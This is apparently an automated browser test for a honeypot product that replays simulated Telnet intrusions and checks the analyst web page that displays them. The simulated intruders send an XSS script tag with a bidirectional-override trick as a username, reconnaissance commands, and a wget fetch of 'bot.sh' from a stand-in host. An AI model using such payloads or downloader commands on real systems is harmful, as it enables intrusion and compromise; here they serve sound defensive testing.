// decoys_test - a real decoy, intruders who come to it, and the page on which one looks at them.
//
// usage: decoys_test.mjs BUILD      pictures go to BUILD/web-pictures-decoys
//
// Skips itself (77) where there is no Chromium.
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Hub, browserPath, until } from './hub.mjs';
import { expect, failures, need, quiet, root, truth, windowOf } from './kit.mjs';

const build = resolve(process.argv[2]);
const executablePath = browserPath();
if (!executablePath) {
	console.log('skipped: there is no chromium (script/packages test)');
	process.exit(77);
}
const { chromium } = need('playwright-core');
const axe = readFileSync(need.resolve('axe-core/axe.min.js'), 'utf-8');
const pictures = join(build, 'web-pictures-decoys');
const router = '10.61.1.254';

const freePort = () => new Promise((done) => {
	const server = createServer().listen(0, '127.0.0.1', () => {
		const { port } = server.address();
		server.close(() => done(port));
	});
});

/** The shipped town hall, reached by a proxy alone: no address of this machine is taken. */
class Decoy {
	static async start(folder) {
		const decoy = new Decoy();
		decoy.port = await freePort();
		const settings = [`organisation=${join(root, 'data/organisations/town-hall.yaml')}`, `personas=${join(root, 'data/personas')}`, `proxies=127.0.0.1:${decoy.port}`, 'proxy-from=127.0.0.0/8', 'recording.write_interval=50ms', 'recording.seal_interval=200ms', ...(process.getuid() === 0 ? ['user=root'] : [])];
		decoy.process = spawn(join(build, 'hinomi-decoy'), ['run', '--dir', folder, ...settings.flatMap((one) => ['--set', one])], { stdio: ['ignore', 'ignore', 'pipe'] });
		let log = '';
		decoy.process.stderr.on('data', (text) => (log += text));
		await until('the decoy starts', () => {
			if (decoy.process.exitCode !== null) throw new Error('the decoy does not start: ' + log);
			return log.includes('event=decoy.start');
		});
		return decoy;
	}

	async stop() {
		this.process.kill('SIGTERM');
		await until('the decoy ends', () => this.process.exitCode !== null || this.process.signalCode !== null);
	}
}

/** Somebody with Telnet, who comes from `source` by the proxy. */
class Intruder {
	text = '';

	constructor(decoy, source) {
		this.socket = connect(decoy.port, '127.0.0.1');
		this.socket.on('error', () => {});
		this.socket.on('data', (bytes) => (this.text += bytes.toString('latin1')));
		const address = (text) => Buffer.from(text.split('.').map(Number));
		this.socket.write(Buffer.concat([Buffer.from('\r\n\r\n\0\r\nQUIT\n', 'latin1'), Buffer.from([0x21, 0x11, 0, 12]), address(source), address(router), Buffer.from([0x9c, 0x40, 0, 23])]));
	}

	async wait(words) {
		await until('the decoy says ' + words, () => words.some((one) => this.text.includes(one)));
		this.text = '';
	}

	async say(line, ...answers) {
		this.socket.write(line + '\r\n');
		await this.wait(answers);
	}

	async logIn(user, password) {
		await this.wait(['ogin: ']);
		await this.say(user, 'assword: ');
		await this.say(password, '# ', '$ ', '> ', 'incorrect');
	}
}

const screen = (page) => page.textContent('.screen');

async function list(hub, page) {
	await page.goto(hub.url + '/decoys');
	await page.waitForSelector('tbody tr.running');
	expect('the sessions', await page.locator('tbody tr').count(), 3);
	truth('the newest is first and runs', await page.locator('tbody tr').first().evaluate((row) => row.classList.contains('running')));
	await page.waitForSelector('#tried-pairs');
	truth('pairs are counted', (await page.textContent('section[aria-labelledby=tried-pairs]')).includes('admin / admin'));
	const text = await page.evaluate(() => document.body.innerText);
	truth('strangers\u2019 text is text', text.includes('<script>') && !/[\u202a-\u202e]/.test(text) && !(await page.evaluate(() => window.hacked)));
	await page.check('.only input');
	await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 2);
	await page.fill('.filters label:nth-child(4) input', 'uname');
	await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1);
	truth('the address bar has the filter', page.url().includes('logins=1') && page.url().includes('word=uname'));
	await page.fill('.filters label:nth-child(1) input', '192.0.2.0/24');
	await page.waitForSelector('.nothing');
}

async function play(hub, page) {
	await page.goto(hub.url + '/decoys?word=uname');
	await page.waitForFunction(() => document.querySelectorAll('tbody tr').length === 1);
	await page.click('tbody a.button');
	await page.waitForSelector('li.command');
	expect('nothing is shown before one says why', await page.locator('.screen').count(), 0);
	await page.fill('form input', 'short');
	truth('a purpose says something', await page.isDisabled('form button.main'));
	await page.fill('form input', 'a test of the player');
	await page.click('form button.main');
	await page.waitForSelector('[data-standing=whole]');
	await page.waitForFunction(() => document.querySelector('.screen').textContent.trim() !== '');
	await page.locator('.seek').evaluate((input) => {
		input.value = input.max;
		input.dispatchEvent(new Event('input', { bubbles: true }));
	});
	await page.waitForFunction(() => document.querySelector('.screen').textContent.includes('Connecting to 198'));
	truth('what was typed unseen is told', (await page.textContent('.typed')).includes('uname'));
	await page.focus('.glass');
	await page.keyboard.press('Home');
	await page.locator('.seek').evaluate((input) => {
		input.value = 0;
		input.dispatchEvent(new Event('input', { bubbles: true }));
	});
	truth('one goes back', !(await screen(page)).includes('Connecting to 198'));
	await page.selectOption('.speed select', '16');
	await page.focus('.glass');
	if ((await page.textContent('.keys button')).includes('Play')) await page.keyboard.press(' ');
	await page.waitForFunction(() => document.querySelector('.screen').textContent.includes('Connecting to 198'));
	const acts = (await hub.ask(hub.admin, 'GET', '/ledger/acts?kind=evidence-opened')).acts;
	truth('the ledger has the purpose', acts.some((one) => JSON.stringify(one.object).includes('a test of the player')), JSON.stringify(acts).slice(0, 300));
}

async function live(hub, page, intruder) {
	await page.goto(hub.url + '/decoys');
	await page.click('tbody tr.running a.button');
	await page.fill('form input', 'to look on as it happens');
	await page.click('form button.main');
	await page.waitForSelector('.chip.live');
	await intruder.say('echo it-$((40+2))-goes-on', 'it-42-goes-on');
	await page.waitForFunction(() => document.querySelector('.screen').textContent.includes('it-42-goes-on'));
	intruder.socket.destroy();
	await page.waitForSelector('[data-standing=whole]');
	await page.waitForFunction(() => !document.querySelector('header .running'));
	const acts = (await hub.ask(hub.admin, 'GET', '/ledger/acts?kind=evidence-opened')).acts;
	expect('looking on is one act', acts.filter((one) => JSON.stringify(one.object).includes('as it happens')).length, 1);
}

async function looks(page, name, lang) {
	for (const theme of ['dark', 'light']) {
		await page.emulateMedia({ colorScheme: theme, reducedMotion: 'reduce' });
		for (const [width, height, device] of [[1366, 900, 'desktop'], [390, 844, 'phone']]) {
			await page.setViewportSize({ width, height });
			await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
			const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
			truth(`${name} ${lang} ${device} fits`, wide <= 1, wide + ' pixels too wide');
			await page.screenshot({ path: join(pictures, `${name}.${lang}.${theme}.${device}.png`) });
			if (lang !== 'en') continue;
			await page.evaluate(axe);
			const found = await page.evaluate(() => window.axe.run(document, { resultTypes: ['violations'] }));
			for (const one of found.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical'))
				failures.push(`axe: ${name} ${theme} ${device}: ${one.id}: ${one.nodes.slice(0, 3).map((node) => node.target.join(' ') + ' ' + (node.any[0]?.message ?? '')).join('; ')}`);
		}
	}
}

async function allLooks(hub, browser) {
	const { sessions } = await hub.ask(hub.admin, 'GET', '/decoys/1/sessions?word=uname');
	for (const [lang, locale] of [['en', 'en-GB'], ['ja', 'ja-JP']]) {
		const page = await windowOf(browser, hub.admin, { locale });
		await page.goto(hub.url + '/decoys');
		await page.waitForSelector('#tried-pairs');
		await quiet(page);
		await looks(page, 'decoys', lang);
		await page.goto(hub.url + '/decoys/1/sessions/' + sessions[0].session);
		await page.waitForSelector('li.command');
		await looks(page, 'closed', lang);
		await page.fill('form input', 'pictures of the player');
		await page.click('form button.main');
		await page.waitForSelector('[data-standing=whole]');
		await page.locator('.seek').evaluate((input) => {
			input.value = input.max;
			input.dispatchEvent(new Event('input', { bubbles: true }));
		});
		await looks(page, 'session', lang);
		await page.context().close();
	}
}

async function main() {
	mkdirSync(pictures, { recursive: true });
	const place = mkdtempSync(join(tmpdir(), 'hinomi-decoys-'));
	const decoy = await Decoy.start(join(place, 'decoy'));
	let hub;
	let browser;
	try {
		const guesser = new Intruder(decoy, '203.0.113.66');
		await guesser.logIn('<script>window.hacked=1</script>\u202Egpj', 'x'.repeat(60));
		guesser.socket.destroy();
		const first = new Intruder(decoy, '203.0.113.9');
		await first.logIn('admin', 'admin');
		for (const line of ['uname -a', 'cat /proc/cpuinfo', 'ls -l /', 'ls -l /etc']) await first.say(line, '# ', '$ ', '> ');
		first.socket.write('wget -T 1 http://198.51.100.1/bot.sh\r\n');
		await until('the fetch begins', () => first.text.includes('198.51'));
		first.socket.destroy();
		const second = new Intruder(decoy, '203.0.113.10');
		await second.logIn('admin', 'admin');
		hub = await Hub.start(build, root, { quiet: true, settings: ['people.decoys=' + join(place, 'decoy')] });
		browser = await chromium.launch({ executablePath, args: ['--no-sandbox'] });
		const page = await windowOf(browser, await hub.person('ann', 'analyst'));
		for (const [name, part] of [['list', () => list(hub, page)], ['play', () => play(hub, page)], ['live', () => live(hub, page, second)], ['looks', () => allLooks(hub, browser)]]) {
			const start = Date.now();
			await part().catch(async (error) => {
				await page.screenshot({ path: join(pictures, 'failed.' + name + '.png') }).catch(() => {});
				failures.push(name + ': ' + String(error.stack ?? error).slice(0, 1200));
			});
			console.log(name + ': ' + ((Date.now() - start) / 1000).toFixed(1) + ' s');
		}
	} finally {
		await browser?.close();
		await hub?.stop();
		await decoy.stop();
		rmSync(place, { recursive: true, force: true });
	}
	for (const line of failures) console.log(line);
	console.log(failures.length > 0 ? failures.length + ' failures' : 'decoys: all as expected');
	process.exitCode = failures.length > 0 ? 1 : 0;
}

await main();
